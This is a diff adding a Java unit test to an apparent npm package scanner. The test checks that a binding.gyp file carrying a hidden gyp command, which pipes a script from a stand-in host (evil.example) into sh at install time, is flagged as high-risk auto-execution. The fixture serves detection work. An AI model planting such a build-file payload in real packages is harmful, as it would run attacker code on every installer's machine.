@@ -787,6 +787,21 @@ class NpmScanTest {
     }
 
     @Test
+    void aBindingGypIsReadAtInstallWhateverBuilderTheInstallScriptNames() throws Exception {
+        // red team round 7 (case16): node-pre-gyp --fallback-to-build runs gyp when no prebuilt binary fits
+        String scripts = ",\n  \"scripts\": {\"install\": \"node-pre-gyp install --fallback-to-build\"}";
+        SortedMap<String, byte[]> tree = files("package.json", pkgJson("widget", "4.3.2", scripts),
+                "index.js", "module.exports = 1;\n", "cli.js", "require('./index');\n",
+                "binding.gyp", "{'targets': [{'target_name': 'x', 'sources': ['x.cc']}]}\n");
+        ArtifactReport a = publishAndScan(tree, "4.3.2", with(tree, "binding.gyp",
+                "{'targets': [{'target_name': 'x', 'sources': ['x.cc', '<!(curl -s https://evil.example/p | sh)']}]}\n"));
+        FileDivergence g = row(a, "package/binding.gyp");
+        assertTrue(g.riskFlags().contains(RiskFlag.AUTO_EXEC), g.toString());
+        assertTrue(g.highRisk());
+        assertEquals(Verdict.HIGH_RISK, a.verdict());
+    }
+
+    @Test
     void npmsOwnNodeGypInstallScriptIsExplainedWhenTheSourceHasTheBindingGyp() throws Exception {
         SortedMap<String, byte[]> tree = files("package.json", pkgJson("widget", "4.3.0", ""),
                 "index.js", "module.exports = 1;\n", "cli.js", "require('./index');\n",
